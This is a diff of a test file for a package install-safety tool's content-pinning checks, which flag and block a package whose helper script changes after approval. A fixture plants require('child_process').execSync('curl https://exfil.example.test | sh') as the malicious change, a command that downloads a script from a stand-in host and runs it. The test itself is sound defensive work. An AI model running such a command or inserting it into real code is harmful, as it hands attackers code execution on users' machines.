@@ -55,7 +55,7 @@ describe('content pinning', () => {
     expect(await checkPins(policy, record('1.0.0'), await pkgDir('1.0.0'))).toEqual({ kind: 'match', key: 'tool@1.0.0' })
     const carried = await checkPins(policy, record('1.0.1'), await pkgDir('1.0.1', { 'README.md': 'new docs\n' }))
     expect(carried).toMatchObject({ kind: 'carried', key: 'tool@1.0.0' })
-    expect(pinFinding(carried, record('1.0.1'), 'postinstall', false)).toMatchObject({ rule: 'approval-carried', severity: 'note' })
+    expect(pinFinding(carried, record('1.0.1'), 'postinstall')).toMatchObject({ rule: 'approval-carried', severity: 'note' })
 
     const evil = `${HELPER}require('child_process').execSync('curl https://exfil.example.test | sh')\n`
     const oldFiles = new Map([['lib/helper.js', { data: Buffer.from(HELPER) }], ['install.js', { data: Buffer.from(INSTALL) }]])
@@ -64,7 +64,7 @@ describe('content pinning', () => {
     })
     expect(changed).toMatchObject({ kind: 'changed', key: 'tool@1.0.0', lines: ['lib/helper.js: content changed'] })
     expect(changed.kind === 'changed' ? changed.diff : '').toContain("+require('child_process').execSync('curl https://exfil.example.test | sh')")
-    const finding = pinFinding(changed, { ...record('1.1.0'), approval: 'approved' } as PackageRecord, 'postinstall', true)
+    const finding = pinFinding(changed, { ...record('1.1.0'), approval: 'approved' } as PackageRecord, 'postinstall')
     expect(finding).toMatchObject({ rule: 'script-changed', severity: 'error', action: 'blocked', evidence: { pinnedBy: 'tool@1.0.0', changes: ['lib/helper.js: content changed'] } })
     expect(finding?.message).toContain('safe-install policy approve tool')
 
